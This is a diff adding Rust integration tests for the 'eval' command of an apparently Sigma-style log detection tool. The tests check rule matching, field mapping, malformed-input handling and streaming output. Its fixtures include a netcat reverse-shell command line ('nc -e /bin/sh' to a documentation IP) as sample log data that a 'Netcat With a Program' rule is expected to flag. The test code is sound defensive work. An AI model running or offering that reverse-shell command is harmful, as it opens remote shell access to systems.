@@ -1,0 +1,161 @@
+//! `eval`: detections from lines, and what becomes of lines that are none.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+mod support;
+
+use std::io::{BufRead as _, BufReader, Write as _};
+use std::process::Stdio;
+
+use serde_json::json;
+use support::{BROKEN, NETCAT, event, folder, run_with, text};
+
+const MATCHING: &str = r#"{"Image":"/usr/bin/nc","CommandLine":"nc -e /bin/sh 192.0.2.1"}"#;
+const OTHER: &str = r#"{"Image":"/usr/bin/nc","CommandLine":"nc -h"}"#;
+const PROCESS: &str = "product=linux,category=process_creation";
+
+fn lines(lines: &[&str]) -> Vec<u8> {
+    lines.join("\n").into_bytes()
+}
+
+#[test]
+fn a_detection_has_the_rule_the_evidence_and_the_line() {
+    let rules = folder(&[("nc.yml", NETCAT)]);
+    let arguments = ["eval", "--rules", text(rules.path()), "--logsource", PROCESS];
+    let run = run_with(&arguments, &lines(&[OTHER, MATCHING, ""]));
+    assert_eq!(run.code, Some(0), "{run:?}");
+    let expected = json!({
+        "kind": "detection",
+        "line": 2,
+        "rule": {
+            "id": "4d2e1c7a-2f0b-4f0e-9a53-6d6c4b1f0b11",
+            "title": "Netcat With a Program",
+            "level": "high",
+            "tags": ["attack.execution", "attack.t1059.004"],
+        },
+        "evidence": [
+            {"field": "Image", "value": "/usr/bin/nc"},
+            {"field": "CommandLine", "value": "nc -e /bin/sh 192.0.2.1"},
+        ],
+    });
+    let mut found = run.lines();
+    let evidence = found[0]["evidence"].as_array_mut().unwrap();
+    evidence.sort_by_key(|part| std::cmp::Reverse(part["field"].as_str().unwrap().to_owned()));
+    assert_eq!(found, [expected]);
+    assert_eq!(run.stderr, "");
+}
+
+#[test]
+fn the_log_source_routes_and_without_one_every_rule_is_asked() {
+    let rules = folder(&[("nc.yml", NETCAT)]);
+    let with = |more: &[&str]| {
+        let arguments = [&["eval", "--rules", text(rules.path())], more].concat();
+        let run = run_with(&arguments, MATCHING.as_bytes());
+        assert_eq!(run.code, Some(0), "{run:?}");
+        run.lines().len()
+    };
+    assert_eq!(with(&["--logsource", PROCESS]), 1);
+    assert_eq!(with(&["--logsource", "product=linux,category=file_event"]), 0);
+    assert_eq!(with(&[]), 1);
+    let wrong = run_with(&["eval", "--builtin", "--logsource", "linux"], b"");
+    assert_eq!(wrong.code, Some(2), "{wrong:?}");
+}
+
+#[test]
+fn a_malformed_line_is_named_and_the_rest_goes_on() {
+    let rules = folder(&[("nc.yml", NETCAT)]);
+    let mut input = lines(&[MATCHING, "{\"Image\":", "[1]", ""]);
+    input.extend_from_slice(b"\xff\xfe{}\n");
+    input.extend(std::iter::repeat_n(b'x', (8 << 20) + 1));
+    input.push(b'\n');
+    input.extend_from_slice(MATCHING.as_bytes());
+    let run = run_with(&["eval", "--rules", text(rules.path())], &input);
+    assert_eq!(run.code, Some(1));
+    let found: Vec<u64> = run.lines().iter().map(|line| line["line"].as_u64().unwrap()).collect();
+    assert_eq!(found, [1, 6]);
+    let said: Vec<&str> = run.stderr.lines().collect();
+    assert!(said[0].starts_with("line 2: not JSON: "), "{said:?}");
+    assert_eq!(said[1], "line 3: not a JSON object");
+    assert!(said[2].starts_with("line 4: not UTF-8: "), "{said:?}");
+    assert_eq!(said[3], "line 5: longer than 8388608 bytes");
+    assert_eq!(said[4], "4 of 6 lines cannot be read");
+    assert_eq!(said.len(), 5);
+}
+
+#[test]
+fn fields_are_found_by_dotted_path_and_by_mapping() {
+    let nested = r#"{"process":{"executable":"/usr/bin/nc","command_line":"nc -e /bin/sh"}}"#;
+    let dotted = NETCAT
+        .replace("Image|", "process.executable|")
+        .replace("CommandLine|", "process.command_line|");
+    let rules = folder(&[("dotted.yml", &dotted)]);
+    let run = run_with(&["eval", "--rules", text(rules.path())], nested.as_bytes());
+    assert_eq!(run.lines().len(), 1, "{run:?}");
+
+    let mapping = "Image: process.executable\nCommandLine: process.command_line\n";
+    let rules = folder(&[("nc.yml", NETCAT)]);
+    let files = folder(&[("mapping.yml", mapping), ("wrong.yml", "Image: [a, b]\n")]);
+    let file = files.path().join("mapping.yml");
+    let arguments = ["eval", "--rules", text(rules.path()), "--field-mapping", text(&file)];
+    let run = run_with(&arguments, nested.as_bytes());
+    assert_eq!(run.lines().len(), 1, "{run:?}");
+    assert_eq!(run_with(&arguments[..3], nested.as_bytes()).lines().len(), 0);
+
+    let wrong = files.path().join("wrong.yml");
+    let arguments = ["eval", "--builtin", "--field-mapping", text(&wrong)];
+    let run = run_with(&arguments, nested.as_bytes());
+    assert_eq!(run.code, Some(3), "{run:?}");
+    assert!(run.stderr.contains("wrong.yml:1: "), "{run:?}");
+}
+
+#[test]
+fn events_of_lavender_are_routed_by_their_kind() {
+    let rules = folder(&[("nc.yml", NETCAT)]);
+    let alert = r#"{"kind":"alert","rule":{},"event_kind":"exec","created_at":1,"Image":"/nc"}"#;
+    let input = lines(&[&event::exec(), &event::exit(), &event::exec_truncated(), alert]);
+    let arguments = ["eval", "--rules", text(rules.path()), "--events"];
+    let run = run_with(&arguments, &input);
+    assert_eq!(run.code, Some(0), "{run:?}");
+    let found = run.lines();
+    assert_eq!(found.len(), 2, "{found:?}");
+    assert_eq!(found[0]["line"], 1);
+    assert!(found[0].get("undetermined").is_none());
+    let whole: serde_json::Value = serde_json::from_str(&event::exec()).unwrap();
+    assert_eq!(found[0]["event"], whole);
+    assert_eq!(found[1]["line"], 3);
+    assert_eq!(found[1]["undetermined"], json!(["CommandLine"]));
+
+    let cut = event::exec().replace("\"filename\"", "\"name\"");
+    let run = run_with(&arguments, cut.as_bytes());
+    assert_eq!(run.code, Some(1), "{run:?}");
+    assert!(run.stderr.starts_with("line 1: not an event of Lavender's: "), "{run:?}");
+}
+
+#[test]
+fn a_detection_is_there_before_the_stream_ends() {
+    let rules = folder(&[("nc.yml", NETCAT)]);
+    let arguments = ["eval", "--rules", text(rules.path())];
+    let mut child = support::command(&arguments).stdin(Stdio::piped()).spawn().unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    let mut stdout = BufReader::new(child.stdout.take().unwrap());
+    writeln!(stdin, "{MATCHING}").unwrap();
+    let mut line = String::new();
+    stdout.read_line(&mut line).unwrap();
+    assert!(line.contains("\"line\":1"), "{line}");
+
+    // And a reader that has had enough ends it.
+    drop(stdout);
+    while writeln!(stdin, "{MATCHING}").is_ok() {}
+    let output = child.wait_with_output().unwrap();
+    assert_eq!(output.status.code(), Some(0));
+    assert_eq!(String::from_utf8(output.stderr).unwrap(), "");
+}
+
+#[test]
+fn a_set_with_a_fault_evaluates_nothing() {
+    let rules = folder(&[("nc.yml", NETCAT), ("broken.yml", BROKEN)]);
+    let run = run_with(&["eval", "--rules", text(rules.path())], MATCHING.as_bytes());
+    assert_eq!(run.code, Some(1));
+    assert_eq!(run.stdout, "");
+    assert!(run.stderr.contains("broken.yml:7: "), "{run:?}");
+    assert_eq!(run_with(&["eval"], b"").code, Some(2));
+}
